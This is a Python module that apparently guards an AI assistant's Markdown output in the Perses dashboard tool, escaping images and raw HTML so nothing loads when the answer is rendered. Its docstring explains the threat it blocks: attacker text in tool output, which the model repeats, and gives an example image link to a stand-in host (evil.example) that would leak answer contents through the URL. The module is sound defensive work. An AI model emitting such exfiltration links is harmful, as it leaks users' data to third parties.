"""The model's text as clients render it: Markdown in which nothing loads by itself.

The model writes what the tools showed it, and tool output carries what anyone could put into
a label value or a dashboard title. An image there (`![x](https://evil.example/?q=secret)`, or
raw HTML such as `<img src=...>`) would make the user's browser fetch that URL the moment the
answer is drawn, telling whoever owns it what the answer says. So the text is rewritten to
show such things as text:

- `![` becomes `!\\[`: no image of any kind (inline, reference or shortcut) whatever its URL;
  a relative one would be fetched from the Perses origin with the user's cookies;
- `<` before a tag name, `/`, `!` or `?` becomes `\\<`: no raw HTML, so no `<img>`,
  `<iframe>`, `style=` or comment; an `<https://...>` autolink shows as text;
- backslash escapes stay as they are (`\\<` is text already; `\\\\<img>` is a backslash and
  a tag, and that tag is rewritten).

Links (`[text](url)`) and everything else are kept. Inside code the rewrite shows as an extra
backslash; neither `![` nor `<` before a letter is PromQL. The rule looks at two characters at
a time, so it applies to a stream as well: `MarkdownGuard` holds back at most one character
until the next one is known, and what it streams is exactly what `neutralise` returns.
"""

from __future__ import annotations

import re
from collections.abc import Awaitable, Callable

__all__ = ["MarkdownGuard", "StreamGuard", "neutralise"]

_SPECIAL = re.compile(
    r"(?P<escape>\\[!-/:-@\[-`{-~])"  # CommonMark: a backslash escapes any ASCII punctuation
    r"|(?P<image>!\[)"
    r"|(?P<tag><(?=[A-Za-z/!?]))"  # an HTML tag, closing tag, comment or declaration
    r"|(?P<undecided>[\\!<]\Z)"  # the last character so far: the next one decides
)
_REWRITE = {"image": "!\\[", "tag": "\\<"}


def neutralise(markdown: str) -> str:
    """`markdown` with images and raw HTML shown as text (see the module's docstring)."""
    guard = MarkdownGuard()
    return guard.feed(markdown) + guard.end()


class MarkdownGuard:
    """`neutralise` for text that arrives in pieces: feed each piece, send what comes back,
    and send `end()` after the last."""

    def __init__(self) -> None:
        self._held = ""

    def feed(self, text: str) -> str:
        text, self._held = self._held + text, ""
        out: list[str] = []
        start = 0
        for match in _SPECIAL.finditer(text):
            out.append(text[start : match.start()])
            start = match.end()
            kind = match.lastgroup or ""
            if kind == "undecided":
                self._held = match.group()
            else:
                out.append(_REWRITE.get(kind, match.group()))
        out.append(text[start:])
        return "".join(out)

    def end(self) -> str:
        """What was held back: a last `\\`, `!` or `<` alone is text."""
        held, self._held = self._held, ""
        return held


class StreamGuard:
    """A text callback (`on_text`) that passes the guarded text on to `sink`."""

    def __init__(self, sink: Callable[[str], Awaitable[None]]) -> None:
        self._sink = sink
        self._guard = MarkdownGuard()

    async def __call__(self, delta: str) -> None:
        if text := self._guard.feed(delta):
            await self._sink(text)

    async def end(self) -> None:
        if text := self._guard.end():
            await self._sink(text)
